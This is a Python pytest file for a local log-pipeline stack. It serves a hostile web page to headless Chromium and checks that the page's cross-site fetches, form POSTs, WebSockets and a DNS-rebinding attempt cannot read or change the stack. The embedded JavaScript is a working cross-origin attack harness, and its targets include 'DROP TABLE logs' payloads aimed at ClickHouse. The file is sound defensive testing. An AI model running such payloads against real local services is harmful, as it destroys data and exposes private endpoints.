"""A page of another site, open in a browser on this machine, can neither read nor change anything of a running stack.

The same page also attacks a server that defends itself against nothing, so that an attempt which the browser itself
would stop is not taken for one that the stack refused.
"""

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest

from services.local.stack import Stack
from tests.conftest import running
from tests.skips import needs_package

pytestmark = [pytest.mark.heavy, pytest.mark.timeout(600)]

PROGRAMS = (
    *("postgres", "kafka", "namenode", "datanode", "clickhouse"),
    *("ingest-api", "stream-to-store", "query-api", "generator"),
)
CHROMIUM = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update"),
    "--host-resolver-rules=MAP *.example 127.0.0.1",
)
ROW = '{"timestamp": "2026-01-01T00:00:00Z", "level": "INFO", "service": "hostile", "message": "'

# Each attempt has some seconds; then the page tells what it could read. `read`: kind and URL of each success.
PAGE = """<!doctype html><title>hostile</title><body><script>
const read = [], targets = TARGETS;
const patience = milliseconds => new Promise(done => setTimeout(done, milliseconds));
const first = promise => Promise.race([promise, patience(5000)]);
function image(url) {
  return first(new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = url; }));
}
function form(url, name, value) {
  const frame = document.createElement('iframe'), f = document.createElement('form');
  frame.name = 'frame' + Math.random(); document.body.append(frame);
  f.method = 'POST'; f.enctype = 'text/plain'; f.action = url; f.target = frame.name;
  const input = document.createElement('input'); input.name = name; input.value = value; f.append(input);
  document.body.append(f); f.submit();
  return first(new Promise(done => { frame.onload = done; }));
}
async function fetched(url, options) {
  try {
    const reply = await first(fetch(url, options));
    if (reply && (options || {}).mode != 'no-cors') { await reply.text(); read.push(['fetch', url]); }
  } catch (refused) {}
}
function socket(url) {
  return first(new Promise(done => {
    const s = new WebSocket(url.replace('http', 'ws'));
    s.onopen = () => { read.push(['socket', url]); done(); }; s.onerror = done;
  }));
}
async function attack({reads, gets, posts}) {
  for (const url of [...reads, ...gets]) {
    await fetched(url);
    await image(url);
    await fetched(url, {mode: 'no-cors'});
  }
  for (const url of reads) await socket(url);
  for (const [url, body] of posts) {
    const [name, value] = [body.slice(0, -2), body.slice(-2)];
    await form(url, name, value);
    await fetched(url, {method: 'POST', mode: 'no-cors', body});
    await fetched(url, {method: 'POST', body});
    await fetched(url, {method: 'POST', headers: {'content-type': 'application/json'}, body});
    navigator.sendBeacon(url, body);
  }
}
(async () => { for (const target of targets) await attack(target);
  await fetch('/told', {method: 'POST', body: JSON.stringify(read)}); })();
</script>"""


class Server:
    """Serves the hostile page, keeps what it tells, and answers all else with 200, whoever asks."""

    def __init__(self) -> None:
        self.page = ""
        self.told: list[list[str]] | None = None
        self.asked: list[tuple[str, str]] = []
        self._has_told = threading.Event()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append((self.command, self.path))
                self._reply(outer.page.encode() if self.path == "/" else b"open to all")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0)))
                outer.asked.append((self.command, self.path))
                if self.path == "/told":
                    outer.told = json.loads(body)
                    outer._has_told.set()
                self._reply(b"open to all")

            def _reply(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.send_header("access-control-allow-origin", "*")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def wait(self) -> list[list[str]]:
        assert self._has_told.wait(180), "the page did not come to its end"
        assert self.told is not None
        return self.told

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture(scope="module")
def stack() -> Iterator[Stack]:
    with running(*PROGRAMS) as up:
        yield up


@pytest.fixture
def hostile() -> Iterator[Server]:
    server = Server()
    yield server
    server.close()


@contextmanager
def browser(folder: Path, url: str, *options: str) -> Iterator["subprocess.Popen[bytes]"]:
    program = shutil.which("chromium")
    if program is None:
        needs_package("chromium")
    words = [program, *CHROMIUM, f"--user-data-dir={folder}", *options, url]
    with subprocess.Popen(words, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as running:
        try:
            yield running
        finally:
            running.kill()


def address(port: int) -> str:
    return f"http://127.0.0.1:{port}"


def target(stack: Stack) -> dict[str, Any]:
    """What a hostile page would ask of each listener of the stack."""
    settings = stack.settings
    ingest, query, generator = (
        address(port) for port in (settings.ingest_port, settings.query_port, settings.generator_port)
    )
    clickhouse = address(settings.local_clickhouse_port)
    row = f'{ROW}"}}'
    return {
        "reads": [
            f"{query}/api/query/postgres/logs",
            f"{generator}/control/status",
            f"{ingest}/api/collect/health",
            f"{clickhouse}/?query=SELECT%201",
        ],
        "gets": [f"{clickhouse}/?query=DROP%20TABLE%20logs", f"{generator}/control/start"],
        "posts": [
            [f"{ingest}/api/collect/log", row],
            [f"{ingest}/api/collect/logs", f"[{row}]"],
            [f"{generator}/control/start", ""],
            [f"{generator}/burst/logs?count=1000", ""],
            [f"{clickhouse}/", "DROP TABLE logs"],
            [f"{clickhouse}/?query=DROP%20TABLE%20events", ""],
        ],
    }


def open_target(server: Server) -> dict[str, Any]:
    url = address(server.port)
    return {"reads": [f"{url}/read"], "gets": [f"{url}/get"], "posts": [[f"{url}/post", f'{ROW}"}}']]}


def state(stack: Stack) -> dict[str, Any]:
    urls = stack.settings.urls()
    with psycopg.connect(urls["LOGPIPE_POSTGRES_URL"]) as connection:
        row = connection.execute("SELECT count(*) FROM logs").fetchone()
    tables = (
        httpx.post(urls["LOGPIPE_CLICKHOUSE_URL"], content="SHOW TABLES", timeout=60).raise_for_status().text.split()
    )
    load = httpx.get(f"{address(stack.settings.generator_port)}/control/status", timeout=60).json()
    return {"rows": row, "tables": tables, "load": (load["running"], load["stats"])}


def test_a_page_of_another_site_reads_and_changes_nothing(stack: Stack, hostile: Server, tmp_path: Path) -> None:
    before = state(stack)
    hostile.page = PAGE.replace("TARGETS", json.dumps([open_target(hostile), target(stack)]))
    with browser(tmp_path, f"http://hostile.example:{hostile.port}/"):
        read = hostile.wait()
    url = address(hostile.port)
    assert {url for _, url in read} == {f"{url}/read", f"{url}/get", f"{url}/post"}, read
    assert hostile.asked.count(("POST", "/post")) >= 4
    assert hostile.asked.count(("GET", "/get")) >= 3
    assert state(stack) == before


def test_a_name_that_is_made_to_point_here_reads_nothing(stack: Stack, hostile: Server, tmp_path: Path) -> None:
    """DNS rebinding: to the browser, the hostile page and the stack's port are then one site."""

    def shown(port: int, path: str) -> str:
        with browser(tmp_path, f"http://rebound.example:{port}{path}", "--dump-dom", "--timeout=20000") as shown_by:
            return shown_by.communicate(timeout=60)[0].decode()

    settings = stack.settings
    assert "open to all" in shown(hostile.port, "/read")
    refusals = [
        shown(settings.query_port, "/api/query/postgres/stats"),
        shown(settings.generator_port, "/control/status"),
        shown(settings.local_clickhouse_port, "/?query=SHOW%20TABLES"),
        shown(settings.local_namenode_http_port, "/webhdfs/v1/?op=LISTSTATUS"),
    ]
    told = ("logs_count", "logs_sent", "events", "FileStatuses")
    assert not [reply for reply in refusals if any(word in reply for word in told)], refusals
